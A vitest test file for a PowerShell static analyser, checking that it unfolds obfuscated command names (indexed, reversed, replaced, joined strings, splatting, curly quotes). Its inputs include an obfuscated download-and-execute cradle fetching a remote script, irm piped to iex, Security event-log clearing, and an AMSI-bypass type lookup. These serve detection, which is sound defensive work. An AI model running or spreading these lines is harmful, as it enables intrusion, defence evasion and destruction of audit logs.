/**
 * PowerShell string building the lexer folds before names are matched: characters indexed out of known
 * strings, reversed character arrays, `.Replace`/`-replace` of junk characters, `[string]::Join`, and
 * splatted hashtables written without blanks. What stays unknown behind `&` is still a computed call.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';

const doc = (text: string) => analyse(text, 'powershell', 'windows');
const names = (text: string) => doc(text).commands.map((c) => c.name);
const wordsOf = (text: string, name: string) =>
  doc(text)
    .commands.find((c) => c.name === name)
    ?.words.map((w) => w.value);
const notes = (text: string) => doc(text).notes.map((n) => `${n.kind}:${n.detail ?? ''}`);

describe('indexing into known strings', () => {
  it('reads characters of $env:ComSpec and $ShellId at their usual values', () => {
    const text = "iex (&(-join($env:ComSpec[4],$env:ComSpec[8],'r')) -UseB https://203.0.113.77/s.ps1)";
    expect(names(text)).toContain('invoke-webrequest');
    expect(notes(text)).toContain('computed_invocation:invoke-webrequest');
    expect(names("& (-join($ShellId[1],'e','x')) 'x'")).toContain('invoke-expression');
    expect(names("& (-join($PSHome[4],'r','m')) 'x'")).toContain('invoke-restmethod');
  });

  it('reverses by a negative range, also one measured by $s.Length', () => {
    expect(names("& (-join 'tnetnoC-ddA'[-1..-11]) C:\\x 'y'")).toContain('add-content');
    expect(names("$s='xei'; & (-join $s[-1..-($s.Length)]) 'x'")).toContain('invoke-expression');
  });

  it('leaves lists and unknown variables as written', () => {
    expect(wordsOf("$x = 'a','b'; Write-Host $x[1] $y[0]", 'write-host')).toEqual(['Write-Host', 'a,b[1]', '$y[0]']);
  });
});

describe('character arrays and string methods', () => {
  it('folds ToCharArray + [array]::Reverse + -join in a sub-expression', () => {
    expect(names("& $($zr='mri'.ToCharArray();[array]::Reverse($zr);-join $zr) http://x/a | iex")).toContain('invoke-restmethod');
  });

  it('folds .Replace and -replace with literal (or escaped) patterns only', () => {
    expect(names("& ('C~le~ar~-~Eve~ntLog'.Replace('~','')) -LogName Security")).toContain('clear-eventlog');
    expect(names("& ('i.r.m' -replace '\\.','') x")).toContain('invoke-restmethod');
    // `.` alone matches any character: not folded.
    expect(names("& ('i.r.m' -replace '.','') x")).not.toContain('invoke-restmethod');
  });

  it('folds [string]::Join of constant pieces', () => {
    const text =
      "$t=[Ref].Assembly.GetType((([string]::Join('', @('System.Ma','nagement.Auto','mati','on.A')))+'msi'+([string]::Join('', @('Ut','i','l','s')))))";
    expect(doc(text).commands.some((c) => c.words.some((w) => w.value.includes('System.Management.Automation.AmsiUtils')))).toBe(true);
  });
});

describe('splatting hashtables written without blanks', () => {
  it('expands Key=value entries, single-letter keys included', () => {
    expect(wordsOf("$zp=@{o='a.ps1'}; iwr @zp http://x/a.ps1", 'invoke-webrequest')).toEqual(['iwr', 'http://x/a.ps1', '-o', 'a.ps1']);
  });

  it('puts splatted parameters after positional arguments, so a switch takes no value', () => {
    expect(wordsOf("$zp=@{ArgumentList='/i x.msi /qn'; Wait=$true}; Start-Process @zp msiexec.exe", 'start-process')).toEqual([
      'Start-Process',
      'msiexec.exe',
      '-ArgumentList',
      '/i x.msi /qn',
      '-Wait',
    ]);
  });
});

describe('invocation of an expression that does not fold', () => {
  it('is a computed invocation, unlike a command that looks a program up', () => {
    expect(notes('& ($a + $b) x')).toContain('computed_invocation:');
    expect(notes("& (Join-Path $d 'x.exe') /s")).not.toContain('computed_invocation:');
    expect(notes('& $exe /s')).not.toContain('computed_invocation:');
    // Calling a script block made from text is no computed name (its text is analysed as code instead).
    expect(notes('& ([scriptblock]::Create($checks[$k]))')).not.toContain('computed_invocation:');
  });
});

describe('curly quotes are quotes to PowerShell', () => {
  it('reads “…” and ‘…’ strings as the straight ones, offsets unchanged', () => {
    const text = '$Path = “C:\\dwn\\agent.zip"; & ‘Invoke-Expression’ $Path';
    const d = doc(text);
    expect(d.assignments?.find((a) => a.name === 'path')?.value).toBe('C:\\dwn\\agent.zip');
    expect(names(text)).toContain('invoke-expression');
    const call = d.commands.find((c) => c.name === 'invoke-expression')!;
    expect(text.slice(call.words[0]!.span.start, call.words[0]!.span.end)).toBe('‘Invoke-Expression’');
  });

  it('keeps a curly apostrophe inside a double-quoted string as text', () => {
    expect(wordsOf('Write-Host “Don’t worry”', 'write-host')).toEqual(['Write-Host', "Don't worry"]);
  });
});
